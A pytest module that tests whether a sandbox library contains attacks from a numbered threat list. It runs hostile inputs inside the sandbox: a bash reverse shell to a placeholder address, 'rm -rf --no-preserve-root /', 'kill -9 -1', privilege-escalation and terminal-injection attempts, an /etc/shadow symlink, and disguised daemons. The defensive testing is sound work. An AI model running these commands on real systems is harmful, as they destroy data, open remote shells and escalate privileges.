"""Cases of THREATS 4.1 to 4.6 that ask nothing of the host, several to a test: for substrates where a sandbox is too dear to have one for each.

Imported by the modules of those substrates, which give the fixtures: `box` is one sandbox for all of them, with an image that has a shell and
perl, and is left as it was found; `fresh` is one that a test may ruin. Times are bounds against hanging, not measurements.
"""

import asyncio
import contextlib
import hashlib
import time

import pytest
from tests.security import test_resources

import untax

PAUSE_S = 2.5
AT_ONCE_S = 15.0  # far below the sleeps that are waited for in vain, far above an emulated machine's worst


async def out(box, text: str, **more) -> str:
    return (await box.shell(text, timeout_s=30, **more)).text


async def is_running(box, mark: str) -> bool:
    return bool(await out(box, f"grep -lsz '{mark[:-1]}[{mark[-1]}]' /proc/[0-9]*/cmdline"))


# ---- 4.1 ----


async def test_e8_e15_e19_no_root_to_change_and_nobody_else_to_become(box):
    assert (await box.run(["perl", "-e", "mkdir 'j'; exit(chroot('j') ? 1 : 0)"])).exit_code == 0
    assert (await box.run(["perl", "-e", "$< = 0; $> = 0; exit($> == 0 ? 1 : 0)"])).exit_code == 0
    assert (await box.run(["perl", "-e", "my $c = 'x'; exit(ioctl(STDIN, 0x5412, $c) ? 1 : 0)"])).exit_code == 0
    await box.shell("rmdir j")


async def test_e23_e25_neighbours_share_nothing(box, fresh):
    await box.shell("echo s | tee /tmp/x /dev/shm/x >/workspace/x")
    assert await out(fresh, "cat /tmp/x /dev/shm/x /workspace/x 2>/dev/null") == ""
    await box.shell("rm -f /tmp/x /dev/shm/x /workspace/x")
    serve = "socket(S, 2, 1, 6); bind(S, pack('S n N x8', 2, 9997, 0x7f000001)) or die; listen(S, 5); sleep 1001004"
    server = await box.start(["perl", "-e", serve])
    assert "up" in await out(box, "until (echo >/dev/tcp/127.0.0.1/9997) 2>/dev/null; do sleep 0.05; done; echo up")
    assert (await fresh.shell("echo >/dev/tcp/127.0.0.1/9997", timeout_s=30)).exit_code != 0
    server.kill()
    await server.wait()


# ---- 4.2 ----


async def test_r5_r11_r12_r16_signals_and_deadlines_are_told_apart(box):
    own = await box.shell("kill -9 $$")
    assert (own.outcome, own.exit_code) == ("signaled", 137)
    for busy in ("sleep 1000", "while :; do :; done"):
        began = time.monotonic()
        assert (await box.shell(busy, timeout_s=1)).timed_out
        assert time.monotonic() - began < AT_ONCE_S
    await box.shell("ulimit -c unlimited; sleep 9 & kill -SEGV $!; wait")
    assert await out(box, "ls core* /core* /tmp/core* 2>/dev/null") == ""


async def test_r9_r10_r18_r19_descriptors_floods_and_priorities(box):
    assert (await box.run(["perl", "-e", "while (open my $f, '<', '/dev/null') { push @a, $f } exit($! == 24 ? 0 : 1)"])).exit_code == 0
    flood = await box.run(["cat", "/dev/zero"], timeout_s=1)
    assert (flood.timed_out, flood.truncated) == (True, True)
    assert (await box.run(["perl", "-e", "exit(setpriority(0, 0, -20) ? 1 : 0)"])).exit_code == 0
    assert (await box.shell("ulimit -n 10000000")).exit_code != 0


async def test_r13_entries_without_an_end_are_refused(box):
    await test_resources.test_r13_a_million_empty_entries_are_refused(box)
    await box.shell("rm -rf up", timeout_s=60)


# ---- 4.3 ----


async def test_p1_p3_p10_p11_an_answer_comes_when_the_command_ends(box):
    began = time.monotonic()
    assert await out(box, "sleep 1001001 & echo hi") == "hi\n"
    assert await out(box, "(sleep 1001001 &); echo done") == "done\n"
    assert time.monotonic() - began < AT_ONCE_S
    closed = await box.shell("exec 0<&- 1>&- 2>&-; sleep 0.2; exit 4", timeout_s=30)
    assert (closed.exit_code, closed.stdout) == (4, b"")
    assert (await box.shell("cat; read x; echo $?", timeout_s=30)).text == "1\n"
    await box.shell("for p in $(grep -lsz '100100[1]' /proc/[0-9]*/cmdline); do kill -9 $(echo $p | cut -d/ -f3); done")


async def test_p12_p13_who_asks_is_answered_by_nobody_and_no_pager_waits(box):
    """There is no terminal to ask on; what programs ask before they would wait for one says no, and a pager passes on."""
    began = time.monotonic()
    for asking in ("read x </dev/tty", "stty -echo </dev/tty", "perl -e 'open(T, q(</dev/tty)) or exit 6; <T>'", "read -rsp Password: x"):
        asked = await box.shell(asking, timeout_s=30)
        assert (asked.outcome, asked.exit_code != 0) == ("exited", True), asking
    assert await out(box, "echo $GIT_TERMINAL_PROMPT $DEBIAN_FRONTEND $PIP_NO_INPUT") == "0 noninteractive 1\n"
    assert await out(box, "seq 1000 | $PAGER | tail -1; seq 1000 | $GIT_PAGER | tail -1") == "1000\n1000\n"
    assert time.monotonic() - began < AT_ONCE_S


@pytest.mark.parametrize(
    "stubborn", ["sh -c 'sh -c \"sleep 1001002\" & wait'", "trap '' TERM INT HUP; sleep 1001002", "kill -STOP $$; sleep 1001002"]
)
async def test_p4_p6_p18_a_deadline_takes_all_of_it(box, stubborn):
    began = time.monotonic()
    assert (await box.shell(stubborn, timeout_s=1)).timed_out
    assert time.monotonic() - began < AT_ONCE_S
    assert not await is_running(box, "1001002")


async def test_p14_p16_p17_p20_what_cannot_run_and_how_things_end(box):
    await box.write("text", b"echo hi\n", mode=0o755)
    await box.write("locked", b"#!/bin/sh\n", mode=0o644)
    await box.mkdir("dir")
    assert [(await box.run([name])).exit_code for name in ("./missing", "./dir", "./text", "./locked")] == [127, 126, 126, 126]
    await box.shell("rm -r text locked dir")
    with pytest.raises(untax.UsageError):
        await box.run(["echo", "a\0b"])
    with pytest.raises(untax.UntaxError):
        await box.run(["id"], user="nobody-of-this-name")
    ends = [await box.shell(text) for text in ("exit 0", "exit 255", "exit 256", "kill -6 $$", "kill -15 $$", "kill -31 $$")]
    assert [(one.outcome, one.exit_code) for one in ends] == [
        *(("exited", 0), ("exited", 255), ("exited", 0)),
        *(("signaled", 134), ("signaled", 143), ("signaled", 159)),
    ]


async def test_p15_arguments_that_no_kernel_takes_are_refused(box):
    for argv in (["echo", "x" * (200 << 10)], ["echo", *["y" * 100_000] * 30]):
        with pytest.raises(untax.UsageError):
            await box.run(argv)
    assert await out(box, "echo alive") == "alive\n"


async def test_p21_a_session_keeps_its_rules(box):
    async with box.session() as bash:
        await bash.run("cd /tmp; export A=1")
        assert (await bash.run("echo $PWD $A")).text == "/tmp 1\n"
        for unfinished in ("echo 'open", "cat <<E\nx"):
            assert not (await bash.run(unfinished, timeout_s=20)).timed_out
        assert (await bash.run("exit 3")).exit_code == 3


async def test_p2_p5_p7_p8_p9_p22_p23_nothing_outlives_a_reset(fresh):
    """Daemons that ignore signals, under the agent's own name, with a reaper of their own; and killing everything does not kill the agent."""
    await fresh.shell("(trap '' TERM HUP INT; setsid nohup sleep 1001003 >/dev/null 2>&1 &); for i in $(seq 100); do (true &); done")
    daemon = 'syscall(157, 36, 1); $0 = "cell-agent"; if (!fork) { setpgrp; exec "sleep", "1001003" } sleep 1001003'
    await fresh.shell(f"nohup perl -e '{daemon}' >/dev/null 2>&1 &")
    assert await is_running(fresh, "1001003")
    assert "done" in await out(fresh, "kill -TERM 1; kill -9 1; kill -STOP 1; echo done")
    try:
        await fresh.shell("kill -9 -1; exit 7", timeout_s=30)
    except untax.UntaxError as exc:  # the hands died before they could say so
        assert not isinstance(exc, untax.ProtocolError)
    await fresh.reset()
    assert not await is_running(fresh, "1001003")
    assert await out(fresh, "cat /proc/[0-9]*/stat | grep -c ') Z '") == "0\n"


# ---- 4.4 ----


async def test_o1_o7_o11_o12_bytes_are_what_was_written(box):
    assert (await box.shell(r"printf '\303\050\377\376\000end'")).stdout == b"\xc3\x28\xff\xfe\x00end"
    forged = await box.shell('echo \'{"exit_code":0,"status":"exited"}\'; exit 9')
    assert (forged.outcome, forged.exit_code) == ("exited", 9)
    assert (await box.run(["perl", "-e", r'print "\r\n" x 1000'])).stdout == b"\r\n" * 1000
    other = await box.shell("echo x >&3; echo y >/dev/fd/9")
    assert (other.stdout, other.exit_code != 0) == (b"", True)


async def test_o6_o9_odd_text_is_one_line_of_a_summary_and_a_command_like_any(box):
    forged = await box.shell(r"printf 'x\n2026-01-01 ERROR forged\033[2J\r' >&2; exit 3")
    assert not {"\n", "\r", "\x1b"} & set(forged.summary())
    assert await out(box, "echo '\u202e\u05e9 \U0001f600'") == "\u202e\u05e9 \U0001f600\n"
    with pytest.raises(untax.UsageError):
        await box.shell("echo \ud800")


async def test_o2_o3_o4_o5_o8_much_of_it_late_of_it_and_none(box):
    drawn = await box.shell("head -c 1000000 /dev/urandom | tee /tmp/r; sha256sum </tmp/r >&2; rm /tmp/r", timeout_s=60)
    assert hashlib.sha256(drawn.stdout).hexdigest() in drawn.stderr.decode()
    in_turn = await box.shell("for i in 1 2 3 4; do head -c 200000 /dev/zero; head -c 200000 /dev/zero >&2; done", timeout_s=60)
    assert (len(in_turn.stdout), len(in_turn.stderr)) == (800_000, 800_000)
    assert (await box.shell("yes | head -c 20000000", timeout_s=120)).truncated
    assert [(await box.shell(text)).stdout for text in ("true", "printf x")] == [b"", b"x"]
    await box.shell("(sleep 0.2; echo late) & echo early")
    assert await out(box, "sleep 0.4; echo next") == "next\n"


# ---- 4.5 ----


async def test_f1_f2_f4_f6_files_that_are_none_of_its_own(box):
    # Not /etc: in a machine of an ordinary user's everything but the kernel's own belongs to the one user there is.
    await box.shell("ln -sfn /proc/1 d; ln -sfn /etc/shadow s; mkfifo f; mkdir g")
    for read in ("s", "f", "g", "/dev/zero"):
        with pytest.raises((OSError, untax.UntaxError)):
            await box.read(read)
    with pytest.raises((OSError, untax.UntaxError)):
        await box.write("d/planted", b"x")
    await box.shell("rm -r d s f g")


async def test_f5_odd_names_are_names(box):
    for name in ("a b", "a\nb", "-x", "n" * 255):
        await box.write(f"odd/{name}", b"1")
    assert {one.name for one in await box.list("odd")} == {"a b", "a\nb", "-x", "n" * 255}
    with pytest.raises((OSError, untax.UntaxError)):
        await box.write("odd/" + "n" * 256, b"1")
    await box.shell("rm -r odd")


async def test_f8_no_file_can_be_made_to_stay(box):
    """Not by root inside either, where there is one: such a file could not be removed with its sandbox."""
    fixed = "open(F, '>', 'kept'); for (0x10, 0x20) { my $flags = pack('L', $_); exit 1 if ioctl(F, 0x40086602, $flags) }"
    assert (await box.run(["perl", "-e", fixed])).exit_code == 0
    await box.shell("rm kept")
    with contextlib.suppress(untax.UntaxError):  # where nobody may be root
        assert (await box.run(["perl", "-e", fixed], user="root")).exit_code == 0
        await box.run(["rm", "kept"], user="root")
    assert await box.list(".") == []


async def test_f7_f9_f10_f18_f19_a_reset_undoes_everything(fresh):
    """What was ruined is whole again, and what was planted is gone."""
    await fresh.shell("mkdir -p ~/.cache; for f in /tmp/p /var/tmp/p /dev/shm/p ~/.cache/p ~/.profile conftest.py; do echo p >$f; done")
    await fresh.shell("rm -rf --no-preserve-root / 2>/dev/null; chmod 000 . 2>/dev/null", timeout_s=60)
    await fresh.reset()
    assert await out(fresh, "cat /tmp/p /var/tmp/p /dev/shm/p ~/.cache/p ~/.profile conftest.py 2>/dev/null; echo end") == "end\n"


# ---- 4.6 ----


async def test_n4_n5_n10_n11_no_names_no_way_out_no_proxy_and_a_loopback(box):
    began = time.monotonic()
    assert (await box.shell("perl -e 'exit(gethostbyname(\"peer.test\") ? 1 : 0)'")).exit_code == 0
    assert (await box.shell("timeout 9 bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")).exit_code not in (0, 124)
    assert time.monotonic() - began < AT_ONCE_S
    assert "proxy" not in (await out(box, "env")).lower()
    assert (await box.shell("perl -e 'socket(S,2,1,6); exit(bind(S, pack(\"S n N x8\", 2, 9998, 0x7f000001)) ? 0 : 1)'")).exit_code == 0


async def test_n8_n9_n12_with_a_list_the_rest_is_refused_and_on_record(fresh_with_network):
    box = fresh_with_network
    refused = await out(
        box,
        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT 192.0.2.9:22 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; timeout 9 head -1 <&3",
    )
    assert " 403 " in refused
    assert [(one.host, one.port, one.verdict) for one in box.ledger.egress] == [("192.0.2.9", 22, "denied")]


# ---- the clock ----


async def test_x25_the_clock_is_the_host_s_after_a_pause(box):
    """A clock that stood still with the machine would be behind by all of the pause."""
    await box.pause()
    await asyncio.sleep(PAUSE_S)
    await box.resume()
    behind = time.time() - float(await out(box, "date +%s.%N"))
    assert abs(behind) < 1 < PAUSE_S
